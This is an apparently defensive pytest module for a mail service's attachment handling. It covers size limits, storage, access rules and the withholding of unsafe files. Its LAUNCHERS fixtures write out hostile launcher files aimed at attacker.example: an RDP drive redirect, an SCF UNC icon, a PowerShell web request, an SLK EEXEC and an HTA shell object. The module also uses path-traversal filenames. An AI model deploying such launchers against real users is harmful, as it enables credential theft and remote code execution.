"""Attachments through both doors (real SMTP and the API): size, count, real type, withholding, storage, download."""

from __future__ import annotations

import hashlib
import io
import json
import os
import tempfile
from email.message import EmailMessage
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from sqlalchemy import select

from mailbridge.domain.db import transaction
from mailbridge.domain.models import Attachment, InboundLog, Message, Outbox, OutboxKind
from mailbridge.inbound.pipeline import body_hash
from tests import filemakers as fm
from tests.mailhelpers import live_server, open_conversation, reply_address, reply_message, send

BASE = "/api/v1/practices/acme"


def set_limits(services: Any, **settings: Any) -> None:
    from mailbridge.domain import directory

    with transaction(services.sessions) as session:
        p = directory.get_practice(session, "acme")
        p.settings = {**p.settings, **settings}


def with_files(msg: EmailMessage, files: list[tuple[str, str, bytes]]) -> EmailMessage:
    for name, ctype, data in files:
        maintype, subtype = ctype.split("/")
        msg.add_attachment(data, maintype=maintype, subtype=subtype, filename=name)
    return msg


@pytest.fixture
def door(seeded: Any) -> Any:
    conv = open_conversation(seeded, kind="company", company="bakery", participants=("alice",))
    address = reply_address(seeded, conv, "alice")
    with live_server(seeded) as server:
        yield server, conv, address


def last_message(services: Any, conv: str) -> Message:
    with services.sessions() as session:
        return session.scalars(
            select(Message).where(Message.conversation_id == conv).order_by(Message.created_at.desc())
        ).first()  # type: ignore[return-value]


def test_real_files_stored_by_hash_and_downloadable(seeded: Any, api: Any, door: Any) -> None:
    server, conv, address = door
    pdf, png = fm.pdf(), fm.png()
    msg = with_files(
        reply_message("alice@client.test", address, "Here are my receipts."),
        [
            ("receipt.pdf", "application/pdf", pdf),
            ("photo.png", "image/png", png),
            ("copy-of-receipt.pdf", "application/pdf", pdf),
        ],
    )
    assert send(server, msg, "alice@client.test", address)[0] == 250
    posted = last_message(seeded, conv)
    names = [(a.filename, a.content_type, a.sha256) for a in posted.attachments]
    assert names == [
        ("receipt.pdf", "application/pdf", hashlib.sha256(pdf).hexdigest()),
        ("photo.png", "image/png", hashlib.sha256(png).hexdigest()),
        ("copy-of-receipt.pdf", "application/pdf", hashlib.sha256(pdf).hexdigest()),
    ]
    # One object per distinct content in the practice, encrypted, named by neither path nor plain hash.
    stored = sorted(info.key for info in seeded.vault.objects.list("att/"))
    keys = [a.storage_key for a in posted.attachments]
    assert len(stored) == 2 and sorted(set(keys)) == stored and keys[0] == keys[2]
    for key in stored:
        assert key.startswith("att/") and key.endswith(".mbe")
        assert hashlib.sha256(pdf).hexdigest() not in key and hashlib.sha256(png).hexdigest() not in key
        with seeded.vault.objects.get(key) as handle:
            assert pdf[:200] not in handle.read()
    download = api.get(f"{BASE}/attachments/{posted.attachments[0].id}?as=dr-smith")
    assert download.status_code == 200 and download.content == pdf
    assert download.headers["content-disposition"].startswith("attachment;")
    assert download.headers["x-content-type-options"] == "nosniff"
    # dave may not read it: answered as an attachment that does not exist (issue 20 item 2)
    assert api.get(f"{BASE}/attachments/{posted.attachments[0].id}?as=dave").status_code == 404


def test_refused_files_withheld_with_a_visible_line_and_a_notice(seeded: Any, door: Any) -> None:
    server, conv, address = door
    msg = with_files(
        reply_message("alice@client.test", address, "Invoice and tool attached."),
        [
            ("invoice.pdf", "application/pdf", fm.pe()),
            ("notes.html", "text/html", b"<html><script>x()</script></html>"),
            ("empty.pdf", "application/pdf", b""),
            ("ok.pdf", "application/pdf", fm.pdf()),
        ],
    )
    assert send(server, msg, "alice@client.test", address)[0] == 250
    posted = last_message(seeded, conv)
    assert [a.filename for a in posted.attachments] == ["ok.pdf"]
    assert "3 attachments withheld: invoice.pdf" in posted.body
    with seeded.sessions() as session:
        row = session.scalars(select(InboundLog).order_by(InboundLog.received_at.desc())).first()
        notice = session.scalar(select(Outbox).where(Outbox.kind == OutboxKind.notice))
    verdicts = {d["filename"]: d["reason"] for d in row.details["attachments"]}  # type: ignore[union-attr]
    assert verdicts == {
        "invoice.pdf": "executable",
        "notes.html": "active_content",
        "empty.pdf": "empty",
        "ok.pdf": None,
    }
    assert notice is not None and notice.payload["reason"] == "attachment_withheld"
    assert any("invoice.pdf" in f for f in notice.payload["files"])


def test_hostile_filenames_sanitised(seeded: Any, door: Any) -> None:
    server, conv, address = door
    msg = with_files(
        reply_message("alice@client.test", address, "Files with odd names."),
        [
            ("../../etc/passwd", "text/plain", b"just text\n"),
            ("C:\\x\\y.pdf", "application/pdf", fm.pdf()),
            ("invoice\u202egpj.exe", "image/jpeg", fm.jpeg()),
        ],
    )
    assert send(server, msg, "alice@client.test", address)[0] == 250
    posted = last_message(seeded, conv)
    assert [a.filename for a in posted.attachments] == ["passwd", "y.pdf"]
    assert "invoicegpj.exe" in posted.body  # withheld, named without the right-to-left override


def test_too_many_attachments_refused(seeded: Any, door: Any) -> None:
    server, _, address = door
    files = [(f"f{i}.txt", "text/plain", b"x") for i in range(25)]
    msg = with_files(reply_message("alice@client.test", address, "Lots of little files."), files)
    assert send(server, msg, "alice@client.test", address) == (550, b"5.6.0 Too many attachments")


def test_size_limits(seeded: Any, door: Any) -> None:
    server, conv, address = door
    set_limits(seeded, attachment_max_bytes=1024 * 1024)
    one_big = with_files(
        reply_message("alice@client.test", address, "One file is too big."),
        [
            ("scan.pdf", "application/pdf", fm.pdf() + os.urandom(1024 * 1024 + 10)),
            ("small.pdf", "application/pdf", fm.pdf()),
        ],
    )
    assert send(server, one_big, "alice@client.test", address)[0] == 250
    posted = last_message(seeded, conv)
    assert [a.filename for a in posted.attachments] == ["small.pdf"]
    assert "scan.pdf (too large)" in posted.body
    huge = with_files(
        reply_message("alice@client.test", address, "Far too big."),
        [("a.pdf", "application/pdf", fm.pdf() + os.urandom(3 * 1024 * 1024))],
    )
    code, text = send(server, huge, "alice@client.test", address)
    assert code == 552 and text.startswith(b"5.3.4") and b"MB" in text


def test_large_message_streams_to_disk(seeded: Any, door: Any) -> None:
    server, conv, address = door
    set_limits(seeded, attachment_max_bytes=20 * 1024 * 1024)
    payload = fm.pdf() + os.urandom(6 * 1024 * 1024)
    msg = with_files(
        reply_message("alice@client.test", address, "The full scan, 6 MB."),
        [("scan.pdf", "application/pdf", payload), ("inline.png", "image/png", fm.png())],
    )
    assert send(server, msg, "alice@client.test", address)[0] == 250
    posted = last_message(seeded, conv)
    assert posted.body == "The full scan, 6 MB."
    assert [a.sha256 for a in posted.attachments] == [
        hashlib.sha256(payload).hexdigest(),
        hashlib.sha256(fm.png()).hexdigest(),
    ]
    assert list((seeded.settings.data_dir / "spool").glob("*")) == []  # temporary files cleaned


def test_large_message_sent_twice_is_posted_once(seeded: Any, door: Any) -> None:
    """A large message's idempotency hash is taken while prescan holds its bytes (one read of the
    file fewer): the same message again must still meet it and be suppressed as a duplicate."""
    server, conv, address = door
    set_limits(seeded, attachment_max_bytes=20 * 1024 * 1024)
    msg = with_files(
        reply_message("alice@client.test", address, "The scan again."),
        [("scan.pdf", "application/pdf", fm.pdf() + os.urandom(6 * 1024 * 1024))],
    )
    assert send(server, msg, "alice@client.test", address)[0] == 250
    assert send(server, msg, "alice@client.test", address)[0] == 250
    with seeded.sessions() as session:
        states = session.scalars(select(InboundLog.state).order_by(InboundLog.received_at)).all()
        posted = session.scalars(
            select(Message).where(Message.conversation_id == conv, Message.body == "The scan again.")
        ).all()
    assert [s.value for s in states][-2:] == ["posted", "duplicate"]
    assert len(posted) == 1


def test_corrupt_base64_and_inline_cid(seeded: Any, door: Any) -> None:
    server, conv, address = door
    raw = (
        "From: alice@client.test\r\nTo: {a}\r\nSubject: cid\r\nMessage-ID: <cid1@client.test>\r\nMIME-Version: 1.0\r\n"
        "Content-Type: multipart/related; boundary=r\r\n\r\n--r\r\nContent-Type: text/html\r\n\r\n"
        '<p>See <img src="cid:img1"> and the broken file.</p>\r\n--r\r\nContent-Type: image/png\r\nContent-ID: <img1>\r\n'
        "Content-Transfer-Encoding: base64\r\n\r\n{png}\r\n--r\r\nContent-Type: application/pdf; name=broken.pdf\r\n"
        "Content-Transfer-Encoding: base64\r\n\r\n@@@not*base64!!!\r\n--r--\r\n"
    ).format(a=address, png=__import__("base64").b64encode(fm.png()).decode())
    with server.client() as client:
        client.ehlo("client.test")
        client.mail("alice@client.test")
        client.rcpt(address)
        assert client.data(raw.encode())[0] == 250
    posted = last_message(seeded, conv)
    assert [(a.filename, a.content_id) for a in posted.attachments] == [("attachment-1.png", "img1")]
    assert "broken.pdf" in posted.body  # withheld, not silently dropped
    assert (posted.body_html is not None and "<img" not in posted.body_html.lower()) or "cid:" not in (
        posted.body_html or ""
    )


def test_api_multipart_upload_same_rules(seeded: Any, api: Any) -> None:
    payload = {
        "kind": "company",
        "company": "bakery",
        "subject": "Docs",
        "author": "dr-smith",
        "participants": ["alice"],
        "body": "Two documents for you.",
    }
    files = [
        (
            "attachments",
            (
                "report.docx",
                io.BytesIO(fm.docx()),
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
            ),
        ),
        (
            "attachments",
            (
                "macro.docm",
                io.BytesIO(fm.macro_enable(fm.docx())),
                "application/vnd.ms-word.document.macroEnabled.12",
            ),
        ),
    ]
    # The app's uploader hears of a refused file (422, nothing posted); email keeps its notice.
    refused_file = api.post(f"{BASE}/conversations", data={"payload": json.dumps(payload)}, files=files)
    assert refused_file.status_code == 422, refused_file.text
    problem = refused_file.json()
    assert problem["code"] == "attachment_refused" and problem["field"] == "attachments"
    assert problem["attachments"] == [
        {"filename": "macro.docm", "reason": "macro_document", "explanation": "document with macros"}
    ]
    files = files[:1]
    created = api.post(f"{BASE}/conversations", data={"payload": json.dumps(payload)}, files=files)
    assert created.status_code == 201, created.text
    message = created.json()["messages"][0]
    assert [a["filename"] for a in message["attachments"]] == ["report.docx"]
    assert message["withheld"] == []
    many = [("attachments", (f"f{i}.txt", io.BytesIO(b"x"), "text/plain")) for i in range(25)]
    refused = api.post(
        f"{BASE}/conversations/{created.json()['id']}/messages",
        data={"payload": json.dumps({"author": "dr-smith", "body": "many"})},
        files=many,
    )
    assert refused.status_code == 422 and refused.json()["code"] == "too_many_attachments"


def test_deleting_a_message_removes_unshared_blobs(seeded: Any, api: Any) -> None:
    pdf, png = fm.pdf(), fm.png()
    payload = {
        "kind": "company",
        "company": "bakery",
        "subject": "Docs",
        "author": "dr-smith",
        "participants": ["alice"],
        "body": "Files attached.",
    }
    first = api.post(
        f"{BASE}/conversations",
        data={"payload": json.dumps(payload)},
        files=[
            ("attachments", ("a.pdf", io.BytesIO(pdf), "application/pdf")),
            ("attachments", ("b.png", io.BytesIO(png), "image/png")),
        ],
    ).json()
    second = api.post(
        f"{BASE}/conversations/{first['id']}/messages",
        data={"payload": json.dumps({"author": "dr-smith", "body": "Again, the PDF."})},
        files=[("attachments", ("again.pdf", io.BytesIO(pdf), "application/pdf"))],
    ).json()
    with seeded.sessions() as session:
        key_of = {a.sha256: a.storage_key for a in session.scalars(select(Attachment))}
    assert api.delete(f"{BASE}/messages/{first['messages'][0]['id']}?as=dr-smith").status_code == 204
    assert not seeded.blobs.exists(key_of[hashlib.sha256(png).hexdigest()])  # only the first message had it
    assert seeded.blobs.exists(key_of[hashlib.sha256(pdf).hexdigest()])  # still referenced by the second
    with seeded.sessions() as session:
        assert session.scalars(select(Attachment.message_id)).all() == [second["id"]]


LAUNCHERS = [
    (
        "support.rdp",
        "application/x-rdp",
        b"full address:s:rdp.attacker.example:3389\r\ndrivestoredirect:s:*\r\n",
    ),
    ("prices.iqy", "text/plain", b"WEB\r\n1\r\nhttps://attacker.example/q?x=1\r\n"),
    ("table.slk", "text/plain", b'ID;P\r\nC;Y1;X1;K"x";EEXEC("calc")\r\nE\r\n'),
    ("portal.url", "text/plain", b"[InternetShortcut]\r\nURL=file://attacker.example/share/x.exe\r\n"),
    ("home.website", "text/plain", b"[InternetShortcut]\r\nURL=https://attacker.example/\r\n"),
    ("open.settingcontent-ms", "application/xml", b"<?xml version='1.0'?><PCSettings></PCSettings>"),
    ("docs.library-ms", "application/xml", b"<?xml version='1.0'?><libraryDescription/>"),
    ("app.appref-ms", "text/plain", b"https://attacker.example/app.application#app.application"),
    ("run.hta", "text/plain", b"<HTA:APPLICATION ID='x'/>\r\nnew ActiveXObject('WScript.Shell')\r\n"),
    ("run.jse", "text/plain", b"#@~^AAAAAA==x^#~@"),
    (
        "run.wsf",
        "text/plain",
        b"<?xml version='1.0'?><job><script language='VBScript'>MsgBox 1</script></job>",
    ),
    ("run.ps1", "text/plain", b"Invoke-WebRequest https://attacker.example"),
    ("icon.scf", "text/plain", b"[Shell]\r\nCommand=2\r\nIconFile=\\\\attacker.example\\x.ico\r\n"),
    ("setup.inf", "text/plain", b"[Version]\r\nSignature=$CHICAGO$\r\n"),
    ("keys.reg", "text/plain", b"Windows Registry Editor Version 5.00\r\n"),
]


def test_text_based_launchers_withheld_through_smtp(seeded: Any, door: Any) -> None:
    """Finding 13: plain-text launchers make no type claim by content, so they are refused by name,
    withheld with the usual visible line and reason; a harmless file in the same mail still arrives."""
    server, conv, address = door
    msg = with_files(
        reply_message("alice@client.test", address, "The files you asked for."),
        [*LAUNCHERS, ("notes.txt", "text/plain", b"Just some notes about Tuesday.\n")],
    )
    assert send(server, msg, "alice@client.test", address)[0] == 250
    posted = last_message(seeded, conv)
    assert [a.filename for a in posted.attachments] == ["notes.txt"]
    assert f"{len(LAUNCHERS)} attachments withheld: support.rdp (program or script)" in posted.body
    with seeded.sessions() as session:
        row = session.scalars(select(InboundLog).order_by(InboundLog.received_at.desc())).first()
    verdicts = {d["filename"]: d["reason"] for d in row.details["attachments"]}  # type: ignore[union-attr]
    assert verdicts == {name: "executable" for name, _, _ in LAUNCHERS} | {"notes.txt": None}


_PIECES = st.lists(st.sampled_from([b"\r\n", b"\n", b"\r", b"a: b", b"x", b" ", b"\n\r\n"]), max_size=40)


@settings(max_examples=300, deadline=None)
@given(pieces=_PIECES)
def test_body_hash_in_memory_equals_streamed(pieces: list[bytes]) -> None:
    """The idempotency hash of a large message is taken in memory (prescan holds its bytes); a held
    message's release takes it streamed from the file: both must give the same key."""
    raw = b"".join(pieces)
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "m.eml"
        path.write_bytes(raw)
        assert body_hash(raw, path) == body_hash(None, path)
